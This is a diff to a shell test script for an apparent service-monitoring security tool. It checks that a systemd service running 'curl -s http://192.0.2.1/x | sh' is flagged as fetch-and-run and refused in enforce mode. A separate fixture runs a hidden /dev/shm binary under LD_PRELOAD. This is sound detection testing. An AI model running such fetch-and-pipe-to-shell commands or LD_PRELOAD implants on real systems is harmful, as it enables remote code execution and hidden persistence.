@@ -10,7 +10,8 @@ fetches='curl -s http://192.0.2.1/x | sh;' # to nowhere: there is no network
 prepare() { # ROOT
 	[ "$mode" = absent ] ||
 		echo 'detection: { deny_score = 70; stop_score = 100; };' >"$1/etc/unitward/policy.d/outcomes.conf"
-	service "$1" fetching "/bin/sh -c '$fetches echo fetching >>/srv/ran'"
+	# A moment longer than what the scout may miss, where there is no process connector: unitwardd(8).
+	service "$1" fetching "/bin/sh -c '$fetches echo fetching >>/srv/ran; sleep 1; :'"
 	service "$1" plain "/bin/sh -c 'echo plain >>/srv/ran; sleep infinity'"
 	service "$1" hidden "/dev/shm/.hidden infinity" 'Environment=LD_PRELOAD=/dev/shm/x.so'
 	service "$1" steady "/usr/bin/sleep infinity"
@@ -44,7 +45,7 @@ for mode in $(modes absent audit enforce); do
 			and .process.parent.pid == 1 and (.unitward.reasons | index("fetch-and-run"))'
 		expect "its story is told" says_alerts 'ALERT .* fetching.service'
 	fi
-	in_container begin fetching
+	in_container systemctl restart fetching.service
 	if [ "$mode" = enforce ]; then
 		expect "the second time it is refused" await 10 in_container is_refused fetching
 		expect "that is told" await 10 told fetching '.unitward.response_done'
